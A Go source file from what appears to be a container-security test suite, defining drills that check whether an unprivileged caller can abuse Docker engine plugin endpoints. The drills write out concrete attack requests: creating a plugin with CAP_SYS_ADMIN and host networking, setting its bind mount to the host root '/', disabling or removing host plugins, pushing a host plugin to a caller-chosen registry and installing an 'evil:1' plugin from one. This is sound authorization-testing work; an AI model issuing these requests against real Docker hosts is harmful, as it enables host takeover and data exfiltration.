package drill

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"time"

	"github.com/moby/moby/client"

	"github.com/bulkhead-security/bulkhead/drill/ground"
)

// pluginDrills bring programs that run with the engine's rights.
func pluginDrills() []Drill {
	const technique = "T1543"
	return []Drill{
		guardDrill("plugin-create", technique, "A plugin with rights on the host is made from an archive", func(ctx context.Context, w *EngineWorld) (bool, error) {
			err := w.makePlugin(ctx, w.mallory)
			if err != nil {
				return false, err
			}
			_, err = w.root.PluginInspect(ctx, w.plugin(), client.PluginInspectOptions{})
			return err == nil, nil
		}),
		guardDrill("plugin-remove", "T1562.001", "A plugin that the host relies on is removed", func(ctx context.Context, w *EngineWorld) (bool, error) {
			if err := w.rootsPlugin(ctx); err != nil {
				return false, err
			}
			a, err := w.mallory.send(ctx, http.MethodDelete, "/plugins/"+w.plugin()+"?force=1", nil)
			if err != nil {
				return false, err
			}
			_, err = w.root.PluginInspect(ctx, w.plugin(), client.PluginInspectOptions{})
			return err != nil, w.fair(a)
		}),
		guardDrill("plugin-set", technique, "A plugin's mount becomes the host's root", func(ctx context.Context, w *EngineWorld) (bool, error) {
			if err := w.rootsPlugin(ctx); err != nil {
				return false, err
			}
			a, err := w.mallory.send(ctx, http.MethodPost, "/plugins/"+w.plugin()+"/set", []string{"host.source=/"})
			if err != nil {
				return false, err
			}
			p, err := w.root.PluginInspect(ctx, w.plugin(), client.PluginInspectOptions{})
			if err != nil {
				return false, err
			}
			m := p.Plugin.Settings.Mounts
			return len(m) == 1 && m[0].Source != nil && *m[0].Source == "/", w.fair(a)
		}),
		guardDrill("plugin-enable", technique, "A plugin that the host has turned off is started, with its rights on the host", func(ctx context.Context, w *EngineWorld) (bool, error) {
			if err := w.rootsPlugin(ctx); err != nil {
				return false, err
			}
			a, err := w.switches(ctx, w.mallory, "enable")
			if err != nil {
				return false, err
			}
			on, err := w.pluginOn(ctx)
			return on, errOr(err, w.fair(a))
		}),
		guardDrill("plugin-disable", "T1562.001", "A plugin that the host relies on is turned off", func(ctx context.Context, w *EngineWorld) (bool, error) {
			if err := w.enabledPlugin(ctx); err != nil {
				return false, err
			}
			a, err := w.mallory.send(ctx, http.MethodPost, "/plugins/"+w.plugin()+"/disable?force=1", nil)
			if err != nil {
				return false, err
			}
			on, err := w.pluginOn(ctx)
			return !on, errOr(err, w.fair(a))
		}),
		guardDrill("plugin-push", "T1567", "A plugin of the host is sent to a registry of somebody's choice", func(ctx context.Context, w *EngineWorld) (bool, error) {
			var perr error
			sent, err := reachesHost(func(w *EngineWorld, address string) (string, string, any) {
				w.pluginName = address + "/plugin:1"
				perr = w.rootsPlugin(ctx)
				return http.MethodPost, "/plugins/" + w.pluginName + "/push", nil
			})(ctx, w)
			return sent, errOr(err, perr)
		}),
		guardDrill("plugin-install", technique, "A plugin is installed from a registry", reachesHost(func(_ *EngineWorld, address string) (string, string, any) {
			return http.MethodPost, "/plugins/pull?remote=" + address + "/evil:1", []fields{}
		})),
		guardDrill("plugin-upgrade", technique, "A plugin that the host relies on is replaced by another from a registry", func(ctx context.Context, w *EngineWorld) (bool, error) {
			if err := w.rootsPlugin(ctx); err != nil {
				return false, err
			}
			return reachesHost(func(w *EngineWorld, address string) (string, string, any) {
				return http.MethodPost, "/plugins/" + w.plugin() + "/upgrade?remote=" + address + "/evil:1", []fields{}
			})(ctx, w)
		}),
	}
}

func (w *EngineWorld) plugin() string {
	if w.pluginName != "" {
		return w.pluginName
	}
	return w.name + "/plugin:1"
}

// pluginSocket is the name of the socket at which the engine talks to the plugin; it is short, since the way to it is long.
const pluginSocket = "s"

// pluginArchive is a plugin that waits, and may be given a mount of the host.
func pluginArchive() ([]byte, error) {
	program, err := os.ReadFile(ground.Busybox)
	if err != nil {
		return nil, err
	}
	config, err := json.Marshal(fields{
		"description": "drill", "entrypoint": []string{"/bin/busybox", "sh", "-c", "trap 'exit 0' TERM; busybox sleep 600 & wait"},
		"interface": fields{"types": []string{"docker.volumedriver/1.0"}, "socket": pluginSocket}, "env": []fields{{"name": "PATH", "value": "/bin"}},
		"network": fields{"type": "host"}, "linux": fields{"capabilities": []string{"CAP_SYS_ADMIN"}},
		"mounts": []fields{{"name": "host", "source": "/mnt", "destination": "/host", "type": "bind", "options": []string{"rbind"}, "settable": []string{"source"}}},
	})
	if err != nil {
		return nil, err
	}
	return ground.Tar(ground.File{Name: "config.json", Body: config}, ground.File{Name: "rootfs/", Mode: 0o755}, ground.File{Name: "rootfs/bin/", Mode: 0o755},
		ground.File{Name: "rootfs/bin/busybox", Mode: 0o755, Body: program})
}

func (w *EngineWorld) makePlugin(ctx context.Context, c *caller) error {
	archive, err := pluginArchive()
	if err != nil {
		return err
	}
	a, err := c.sendAs(ctx, http.MethodPost, "/plugins/create?name="+w.plugin(), "application/x-tar", archive)
	return errOr(err, w.fairIf(a))
}

// rootsPlugin is one of the host's.
func (w *EngineWorld) rootsPlugin(ctx context.Context) error {
	root, err := newCaller(Person{Name: "root"}, w.engine.Socket)
	if err != nil {
		return err
	}
	defer func() { _ = root.close() }()
	return w.makePlugin(ctx, root)
}

func (w *EngineWorld) pluginOn(ctx context.Context) (bool, error) {
	p, err := w.root.PluginInspect(ctx, w.plugin(), client.PluginInspectOptions{})
	if err != nil {
		return false, fmt.Errorf("look at the plugin: %w", err)
	}
	return p.Plugin.Enabled, nil
}

// enabledPlugin is one of the host's that works.
func (w *EngineWorld) enabledPlugin(ctx context.Context) error {
	if err := w.rootsPlugin(ctx); err != nil {
		return err
	}
	root, err := newCaller(Person{Name: "root"}, w.engine.Socket)
	if err != nil {
		return err
	}
	defer func() { _ = root.close() }()
	a, err := w.switches(ctx, root, "enable")
	if err == nil && !a.ok() {
		err = fmt.Errorf("the host's own plugin does not start: %s", a)
	}
	return err
}

// switches has somebody turn the plugin on. The engine looks whether somebody listens at the plugin's socket: here it is the drill itself.
func (w *EngineWorld) switches(ctx context.Context, c *caller, how string) (*answer, error) {
	p, err := w.root.PluginInspect(ctx, w.plugin(), client.PluginInspectOptions{})
	if err != nil {
		return nil, fmt.Errorf("look at the plugin: %w", err)
	}
	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	done := make(chan struct{})
	go func() {
		defer close(done)
		w.listenFor(ctx, p.Plugin.ID)
	}()
	a, err := c.send(ctx, http.MethodPost, "/plugins/"+w.plugin()+"/"+how+"?timeout=5", nil)
	cancel()
	<-done
	return a, err
}

// listenFor listens at the plugin's socket as soon as the engine made its directory: below the engine's own, or where older ones have it.
func (w *EngineWorld) listenFor(ctx context.Context, id string) {
	dirs := []string{filepath.Join(w.engine.Dir, "exec", "plugins", id), filepath.Join("/run/docker/plugins", id)}
	for ctx.Err() == nil {
		for _, dir := range dirs {
			if !isDirectory(dir) {
				continue
			}
			l, err := (&net.ListenConfig{}).Listen(ctx, "unix", filepath.Join(dir, pluginSocket))
			if err != nil {
				return
			}
			<-ctx.Done()
			_ = l.Close()
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
}
